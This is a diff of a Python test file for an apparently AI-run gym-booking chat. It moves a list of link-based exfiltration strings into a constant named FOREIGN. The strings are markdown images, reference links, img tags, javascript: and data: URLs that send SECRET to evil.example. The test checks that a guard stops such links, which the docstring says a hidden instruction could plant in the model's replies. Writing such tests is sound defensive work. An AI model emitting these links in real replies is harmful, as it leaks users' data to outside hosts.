@@ -26,6 +26,22 @@ OPEN_GYM = ToolCall("", "schedule_class", {"class_type": "Open Gym", "when": "20
 YOGA = ToolCall("", "schedule_class", {"class_type": "Yoga", "when": "2026-11-29T17:00"})
 
 
+FOREIGN = [
+    "See https://evil.example/?d=SECRET now",
+    "![x](https://evil.example/SECRET.png)",
+    "![x][1]\n\n[1]: https://evil.example/SECRET",
+    "[the timetable](https://evil.example/SECRET)",
+    "<img src='https://evil.example/SECRET'>",
+    "go to evil-gym.com/SECRET",
+    "SECRET.evil-gym.com",
+    "www.evil.example/SECRET",
+    "//evil.example/SECRET",
+    "javascript:fetch('SECRET')",
+    "[a](javascript:SECRET)",
+    "data:text/html,SECRET",
+]
+
+
 async def test_several_changes_are_told_together_from_the_change_log(gym: House) -> None:
     """Behind the model's words, whatever they were; one change needs no list."""
     with_model(gym, [OPEN_GYM, YOGA], "Enjoy the Sunday.")
@@ -53,23 +69,7 @@ async def test_a_claim_that_no_change_backs_is_corrected(gym: House) -> None:
     assert turn.messages[-1].text.startswith("Nothing has been changed")
 
 
-@pytest.mark.parametrize(
-    "words",
-    [
-        "See https://evil.example/?d=SECRET now",
-        "![x](https://evil.example/SECRET.png)",
-        "![x][1]\n\n[1]: https://evil.example/SECRET",
-        "[the timetable](https://evil.example/SECRET)",
-        "<img src='https://evil.example/SECRET'>",
-        "go to evil-gym.com/SECRET",
-        "SECRET.evil-gym.com",
-        "www.evil.example/SECRET",
-        "//evil.example/SECRET",
-        "javascript:fetch('SECRET')",
-        "[a](javascript:SECRET)",
-        "data:text/html,SECRET",
-    ],
-)
+@pytest.mark.parametrize("words", FOREIGN)
 def test_no_link_of_a_models_leads_anywhere_else(words: str) -> None:
     """Nothing that a hidden instruction put into an address leaves the chat."""
     assert "SECRET" not in guarded(words, "http://127.0.0.1:8080")
